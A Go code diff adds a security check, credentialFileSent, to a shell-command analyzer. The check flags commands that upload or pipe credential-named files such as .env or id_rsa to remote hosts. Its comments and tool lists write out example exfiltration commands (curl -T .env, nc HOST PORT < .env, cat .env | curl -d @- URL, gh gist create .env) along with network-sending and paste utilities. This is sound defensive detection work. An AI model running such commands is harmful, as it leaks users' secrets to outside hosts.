@@ -3,6 +3,7 @@ package hardline
 import (
 	"fmt"
 	"net/netip"
+	"path"
 	"slices"
 	"strings"
 
@@ -311,6 +312,9 @@ var elsewhere = map[string]bool{
 // words expanded; in is what the command reads on its standard input.
 func (r *run) secretEgress(sc *scope, s *syntax.Stmt, call *syntax.CallExpr, fs []field, cmd string) {
 	b := base(fs[0].val)
+	if networkSenders[b] || stdinSenders[b] || fileUploaders[b] {
+		r.credentialFileSent(sc, s, call, fs, cmd)
+	}
 	if hc, ok := hostClients[b]; ok {
 		r.clientEgress(sc, s, call, fs, hc, cmd)
 	}
@@ -802,4 +806,181 @@ func (r *run) destinations(b string, call *syntax.CallExpr, fs []field) []string
 		hosts = append(hosts, h)
 	}
 	return hosts
+}
+
+// credentialFileSent asks when a command sends a file whose name says it
+// holds a credential to another host (secret-egress): an upload or a
+// request body read from it (curl -T .env, curl -F f=@.env, curl -d
+// @.env, wget --post-file=.env, http URL f@.env), a gist, snippet or paste
+// of it (gh gist create .env), a copy to a bucket or a remote (aws s3 cp
+// .env s3://..., rclone copy .env remote:), or the file on the standard
+// input of a program that sends its input (nc HOST PORT < .env), directly
+// or through a reader in a pipe (cat .env | curl -d @- URL). The name
+// decides as the credential-name net's does (.env, .env.production, *.pem,
+// *.key, credentials.json, id_rsa, secrets.yaml), wherever the file is,
+// the roots included: reading it there is work, sending it away is not
+// (see docs/security-model.md, Hardline).
+func (r *run) credentialFileSent(sc *scope, s *syntax.Stmt, call *syntax.CallExpr, fs []field, cmd string) {
+	b := base(fs[0].val)
+	files := sentFiles(b, fs[1:])
+	if stdinSenders[b] || networkSenders[b] {
+		for _, rd := range s.Redirs {
+			if rd.Op == syntax.RdrIn && (rd.N == nil || rd.N.Value == "0") {
+				files = append(files, r.word(sc, rd.Word))
+			}
+		}
+		if up := sc.pipeUp[s]; up != nil {
+			files = append(files, r.readerFiles(sc, up)...)
+		}
+	}
+	for _, f := range files {
+		if f.dyn {
+			continue
+		}
+		if why, ok := r.a.credentialBelowHome(path.Base(f.val)); ok {
+			where := "to another host"
+			if hosts := r.destinations(b, call, fs); len(hosts) > 0 {
+				where = "to " + strings.Join(hosts, ", ")
+			}
+			r.finding(ruleSecretEgress, Path, Ask, b+" sends "+f.val+", a file whose name says it holds a credential ("+why+"), "+where, cmd, "")
+			return
+		}
+	}
+}
+
+// fileUploaders are programs whose operands sentFiles reads as files sent
+// to another host (besides networkSenders).
+var fileUploaders = setOf("wget2", "xhs", "httpie", "glab", "gist", "aws", "gsutil", "rclone", "s3cmd", "mc", "azcopy", "s5cmd")
+
+// stdinSenders are programs that send what they read on their standard
+// input to another host (besides networkSenders).
+var stdinSenders = setOf("pastebinit", "termbin", "gist", "ix", "sprunge")
+
+// fileReaders are programs that print a file's contents (or an encoding of
+// them) on their standard output, so that a pipe carries the file.
+var fileReaders = setOf("cat", "tac", "head", "tail", "base64", "base32", "basenc", "xxd", "od", "hexdump", "gzip", "bzip2", "xz", "zstd", "lz4",
+	"openssl", "gpg", "less", "more", "strings", "sed", "awk", "cut", "sort", "uniq", "tr", "jq", "yq", "tee", "zcat", "bat")
+
+// readerFiles returns the files the command writing into a pipe prints:
+// the operands of a reader (cat .env | ...), at the pipe's end of a
+// pipeline too.
+func (r *run) readerFiles(sc *scope, up *syntax.Stmt) []field {
+	stages := pipeStages(up)
+	var out []field
+	for _, st := range stages {
+		fs := r.argv(sc, st)
+		if len(fs) == 0 || !fileReaders[base(fs[0].val)] {
+			continue
+		}
+		for _, f := range fs[1:] {
+			if !strings.HasPrefix(f.val, "-") {
+				out = append(out, f)
+			}
+		}
+		for _, rd := range st.Redirs {
+			if rd.Op == syntax.RdrIn && (rd.N == nil || rd.N.Value == "0") {
+				out = append(out, r.word(sc, rd.Word)) // base64 < .env | nc HOST PORT
+			}
+		}
+	}
+	return out
+}
+
+// sentFiles returns the files program b, given args, sends to another
+// host by name (see credentialFileSent).
+func sentFiles(b string, args []field) []field {
+	var out []field
+	file := func(f field, v string) {
+		f.val = v
+		out = append(out, f)
+	}
+	sub := ""
+	for i := 0; i < len(args); i++ {
+		a := args[i]
+		v := a.val
+		next := func() (field, bool) {
+			if i+1 < len(args) {
+				i++
+				return args[i], true
+			}
+			return field{}, false
+		}
+		switch b {
+		case "curl":
+			switch {
+			case v == "-T" || v == "--upload-file":
+				if n, ok := next(); ok {
+					out = append(out, n)
+				}
+			case strings.HasPrefix(v, "-T") && len(v) > 2:
+				file(a, v[2:])
+			case v == "-d" || v == "--data" || v == "--data-binary" || v == "--data-ascii" || v == "--data-urlencode" || v == "--json":
+				if n, ok := next(); ok {
+					if j := strings.IndexByte(n.val, '@'); j >= 0 && (j == 0 || v == "--data-urlencode") {
+						file(n, n.val[j+1:])
+					}
+				}
+			case v == "-F" || v == "--form":
+				if n, ok := next(); ok {
+					if _, val, found := strings.Cut(n.val, "="); found && (strings.HasPrefix(val, "@") || strings.HasPrefix(val, "<")) {
+						name, _, _ := strings.Cut(val[1:], ";")
+						file(n, name)
+					}
+				}
+			}
+		case "wget", "wget2":
+			for _, o := range []string{"--post-file", "--body-file"} {
+				if v == o {
+					if n, ok := next(); ok {
+						out = append(out, n)
+					}
+				} else if rest, ok := strings.CutPrefix(v, o+"="); ok {
+					file(a, rest)
+				}
+			}
+		case "http", "https", "xh", "xhs", "httpie":
+			if j := strings.IndexByte(v, '@'); j >= 0 && !strings.HasPrefix(v, "-") && !strings.Contains(v, "://") {
+				file(a, v[j+1:]) // field@FILE, field=@FILE, @FILE
+			}
+		case "pastebinit", "gist":
+			if !strings.HasPrefix(v, "-") {
+				out = append(out, a)
+			}
+		case "gh", "glab":
+			// gh gist create FILE..., gh release upload TAG FILE...,
+			// glab snippet create FILE or -f FILE.
+			switch {
+			case sub == "" && !strings.HasPrefix(v, "-"):
+				sub = v
+			case sub == "gist" || sub == "snippet" || sub == "release":
+				if v == "-f" || v == "--filename" {
+					if n, ok := next(); ok && b == "glab" {
+						out = append(out, n)
+					}
+					continue
+				}
+				if !strings.HasPrefix(v, "-") && v != "create" && v != "upload" && v != "new" {
+					out = append(out, a)
+				}
+			}
+		}
+	}
+	switch b {
+	case "aws", "gsutil", "rclone", "s3cmd", "mc", "azcopy", "s5cmd":
+		// aws s3 cp SRC DST, gsutil cp SRC DST, rclone copy SRC REMOTE:,
+		// s3cmd put SRC s3://...: a local operand before a remote one is
+		// sent to it (aws s3 cp s3://b/.env .env fetches instead).
+		var local []field
+		for _, a := range args {
+			switch {
+			case strings.HasPrefix(a.val, "-"):
+			case strings.Contains(a.val, ":"):
+				out = append(out, local...)
+				local = nil
+			default:
+				local = append(local, a)
+			}
+		}
+	}
+	return out
 }
